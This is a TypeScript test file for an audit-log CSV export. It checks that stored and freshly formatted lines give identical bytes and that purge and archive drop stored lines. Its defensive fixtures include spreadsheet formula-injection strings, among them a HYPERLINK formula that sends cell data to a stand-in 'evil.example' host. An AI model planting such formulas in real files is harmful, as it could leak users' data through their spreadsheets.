// The CSV lines the indexer stores behind the sync (migration 25, audit_csv_lines) against the lines formatted on the fly:
// an export must give the same bytes whether its rows are not indexed yet, partly indexed, indexed before stored lines
// existed, or fully indexed, with or without filters; and every hostile cell stays neutralised in the stored lines too.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { openCache } from '../../../src-main/adapters/sqlite.ts';
import type { AuditFilter } from '../../../src-common/contract/index.ts';
import { createAuditService } from '../../../src-main/services/audit/audit-service.ts';
import { csvCell } from '../../../src-main/services/audit/csv.ts';
import { EXPORT_COLUMNS } from '../../../src-main/services/audit/export.ts';
import { createAuditIndexer } from '../../../src-main/services/audit/indexer.ts';
import { createEventBus } from '../../../src-main/services/event-bus.ts';
import { createPlatformClient } from '../../../src-main/platform/index.ts';
import { CLI_CONTEXT } from '../../../src-main/rpc/handlers.ts';
import { HOSTILE, hashEvent, makeChain, ZERO64, type ChainEvent } from '../../support/audit-chain.ts';
import { createFakePlatform } from '../../support/audit-fake-platform.ts';

const quiet = { info() {}, warn() {}, error() {} };

/** every 7th event also carries a member this version does not know (kept in extra_json), hostile text in it; every 13th is 2 h early */
function withUnknownMembers(chain: ChainEvent[]): ChainEvent[] {
  let prev = ZERO64;
  return chain.map((e, i) => {
    const x: Record<string, unknown> = { ...e };
    if (i % 7 === 3) x.x_note = HOSTILE[i % HOSTILE.length];
    // a clock that went back: seq order is not time order here, so a time window's seqs are not all in the window
    if (i % 13 === 5) x.occurred_at = new Date(Date.parse(e.occurred_at) - 2 * 3_600_000).toISOString();
    delete x.hash;
    x.prev_hash = prev;
    x.hash = hashEvent(prev, x);
    prev = x.hash as string;
    return x as unknown as ChainEvent;
  });
}

async function setup() {
  const dir = mkdtempSync(join(tmpdir(), 'gd-exp-lines-'));
  const db = openCache(dir);
  const chains = {
    ws_a: withUnknownMembers(makeChain('ws_a', 400, { seed: 21, hostileEvery: 2, surfaces: true })),
    ws_b: makeChain('ws_b', 250, { seed: 22, hostileEvery: 3, hostileFields: true }),
    '=ws+c': makeChain('=ws+c', 120, { seed: 23, hostileEvery: 4, hostileFields: true, surfaces: true }),
  };
  const fp = createFakePlatform(chains);
  const svc = createAuditService({ db, dataDir: dir, appVersion: '9.9.9', bus: createEventBus(), clock: { now: () => Date.now() }, logger: quiet, platform: createPlatformClient(fp), directory: fp.directory, concurrency: () => 2, pageSize: 100 });
  await svc.sync({});
  let n = 0;
  const exportBytes = async (filters: AuditFilter = {}) => {
    const out = join(dir, `e${n++}.csv`);
    const r = await svc.export({ out, format: 'csv', bom: false, ...filters }, CLI_CONTEXT.capabilities);
    const bytes = readFileSync(out);
    assert.equal(r.sha256, createHash('sha256').update(bytes).digest('hex'), 'the manifest hashes the bytes written');
    return { bytes, r };
  };
  return { dir, db, svc, chains, exportBytes, close: () => (db.close(), rmSync(dir, { recursive: true, force: true })) };
}

const FILTERS: AuditFilter[] = [
  {},
  { workspaces: ['ws_a'] },
  { workspaces: ['ws_b'], from: '2025-01-01T01:00:00.000Z', to: '2025-01-01T03:30:00.000Z' },
  { workspaces: ['ws_a'], from: '2025-01-01T01:00:00.000Z', to: '2025-01-01T04:00:00.000Z' },
  { from: '2025-01-01T02:10:00.000Z' },
  { to: '2025-01-01T00:40:00.000Z', method: 'GET' },
  { from: '2030-01-01T00:00:00.000Z' },
];

test('stored CSV lines: the same bytes not indexed, partly indexed, indexed before stored lines existed, and fully indexed, under every filter', async () => {
  const s = await setup();
  try {
    const indexer = createAuditIndexer(s.db);
    const stored = () => s.db.prepare('SELECT count(*) FROM audit_csv_lines').pluck().get() as number;
    assert.equal(stored(), 0, 'nothing indexed yet: every line is formatted on the fly');
    const before = [];
    for (const f of FILTERS) before.push((await s.exportBytes(f)).bytes);
    assert.ok(before[0]!.length > 0 && before[2]!.length > before[5]!.length);

    // partly indexed: stored lines below each workspace's marker, the tail on the fly
    indexer.step(300, 70);
    assert.ok(stored() > 0 && stored() < 770);
    for (const [k, f] of FILTERS.entries()) assert.ok((await s.exportBytes(f)).bytes.equals(before[k]!), `partly indexed, filters ${JSON.stringify(f)}`);

    indexer.catchUp();
    assert.equal(stored(), 770);
    for (const [k, f] of FILTERS.entries()) assert.ok((await s.exportBytes(f)).bytes.equals(before[k]!), `fully indexed, filters ${JSON.stringify(f)}`);

    // a cache indexed before migration 25: lines of seq <= csv_from_seq do not exist and are formatted on the fly
    s.db.exec("UPDATE audit_sync_state SET csv_from_seq = 90 WHERE workspace_id IN ('ws_a', '=ws+c'); DELETE FROM audit_csv_lines WHERE seq <= 90 AND workspace_id IN ('ws_a', '=ws+c')");
    for (const [k, f] of FILTERS.entries()) assert.ok((await s.exportBytes(f)).bytes.equals(before[k]!), `indexed before stored lines, filters ${JSON.stringify(f)}`);

    // the export really copies the stored lines (so the comparisons above compare two paths, not one path twice)
    s.db.exec("UPDATE audit_csv_lines SET line = 'tampered' || char(13, 10) WHERE workspace_id = 'ws_b' AND seq = 200");
    const changed = (await s.exportBytes({ workspaces: ['ws_b'] })).bytes.toString('utf8');
    assert.match(changed, /\r\ntampered\r\n/);
  } finally {
    s.close();
  }
});

test('stored CSV lines equal a line built cell by cell in JS (csvCell), and every hostile cell is neutralised and round-trips', async () => {
  const s = await setup();
  try {
    createAuditIndexer(s.db).catchUp();
    const rows = s.db.prepare(`SELECT e.*, c.line FROM audit_events e JOIN audit_csv_lines c USING (workspace_id, seq) ORDER BY workspace_id, seq`).all() as Record<string, unknown>[];
    assert.equal(rows.length, 770);
    let unknownMembers = 0;
    for (const r of rows) {
      const sent = r.surface_sent === 1;
      const cells: Record<(typeof EXPORT_COLUMNS)[number], unknown> = {
        workspace_id: r.workspace_id, seq: r.seq, event_id: r.event_id, occurred_at: r.occurred_at, credential_id: r.credential_id, credential_type: r.credential_type,
        caller_ip: r.caller_ip, method: r.method, endpoint: r.endpoint, surface: sent ? r.surface : null, mcp_tool: sent ? r.mcp_tool : null, status: r.status,
        duration_ms: r.duration_ms, pii_accessed: r.pii_accessed === 1, params_json: r.params_json, extra_json: r.extra_json, prev_hash: r.prev_hash, hash: r.hash,
      };
      if (r.extra_json !== null) unknownMembers++;
      const js = EXPORT_COLUMNS.map((c) => csvCell(cells[c])).join(',') + '\r\n';
      assert.equal(r.line, js, `${String(r.workspace_id)}#${String(r.seq)}`);
    }
    assert.ok(unknownMembers > 10, 'events with members this version does not know are among them');

    // the fully indexed export (stored lines only) read back: hostile values exact, no cell a spreadsheet runs
    const text = (await s.exportBytes()).bytes.toString('utf8');
    const parsed = parse(text, { columns: true, relax_quotes: false, relax_column_count: false, record_delimiter: '\r\n' }) as Record<string, string>[];
    assert.equal(parsed.length, 770);
    for (const row of parsed) for (const v of Object.values(row)) assert.ok(!/^[=+\-@\t\r\n\0]/.test(v), `cell ${JSON.stringify(v).slice(0, 40)} is inert`);
    const un = (v: string) => (v.startsWith("'") ? v.slice(1) : v);
    const all = [...s.chains['=ws+c'], ...s.chains.ws_a, ...s.chains.ws_b];
    const seen = new Set<string>();
    for (const [i, e] of all.entries()) {
      const row = parsed[i]!;
      assert.equal(un(row.workspace_id!), e.workspace_id);
      for (const k of ['credential_id', 'credential_type', 'endpoint'] as const) {
        const orig = e[k];
        assert.equal(orig === null ? '' : un(row[k]!), orig ?? '');
        if (orig && HOSTILE.includes(orig)) seen.add(orig);
        if (orig && /^[=+\-@\t\r\n\0']/.test(orig)) assert.equal(row[k], `'${orig}`, 'one leading quote neutralises it');
      }
      assert.equal(un(row.event_id!), e.id);
      assert.equal(row.hash, e.hash);
    }
    // every kind of hostile cell went through the stored path: = + - @ TAB CR LF, quotes, commas, newlines, NUL, '
    for (const h of ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\tTAB start', '\rCR start', '\nLF start', 'a "quoted" value, with comma', 'multi\nline\r\nvalue', "'already quoted", 'null\u0000byte']) assert.ok(seen.has(h), `hostile ${JSON.stringify(h)} exported`);
    const ok = await s.svc.verify({ manifest: join(s.dir, 'e0.csv.manifest.json') }, CLI_CONTEXT.capabilities);
    assert.equal(ok.ok, true, JSON.stringify(ok.checks.filter((c) => !c.ok)));
  } finally {
    s.close();
  }
});

test('purge and archive take the stored lines of the events they remove', async () => {
  const s = await setup();
  try {
    createAuditIndexer(s.db).catchUp();
    const lines = (ws: string) => s.db.prepare('SELECT count(*) FROM audit_csv_lines WHERE workspace_id = ?').pluck().get(ws) as number;
    assert.equal(lines('ws_b'), 250);
    const { createAuditRepo } = await import('../../../src-main/services/audit/repo.ts');
    createAuditRepo(s.db).purgeWorkspaces(['ws_b']);
    assert.equal(lines('ws_b'), 0);
    assert.equal(lines('ws_a'), 400);
    // archive: the first 150 events of ws_a leave the cache, and their lines with them; an export then starts at 151
    const { createArchiveCache } = await import('../../../src-main/services/audit/archive-cache.ts');
    const lastHash = s.db.prepare("SELECT hash FROM audit_events WHERE workspace_id = 'ws_a' AND seq = 150").pluck().get() as string;
    createArchiveCache(s.db).remove([{ workspaceId: 'ws_a', fromSeq: 1, toSeq: 150, lastHash }], { archiveId: 'arc_test', folder: join(s.dir, 'archive'), at: new Date().toISOString() });
    assert.equal(lines('ws_a'), 250);
    assert.equal(s.db.prepare("SELECT min(seq) FROM audit_csv_lines WHERE workspace_id = 'ws_a'").pluck().get(), 151);
    const csv = (await s.exportBytes({ workspaces: ['ws_a'] })).bytes.toString('utf8').split('\r\n').filter((l) => /^ws_a,/.test(l));
    assert.equal(csv.length, 250);
    assert.match(csv[0]!, /^ws_a,151,/);
  } finally {
    s.close();
  }
});
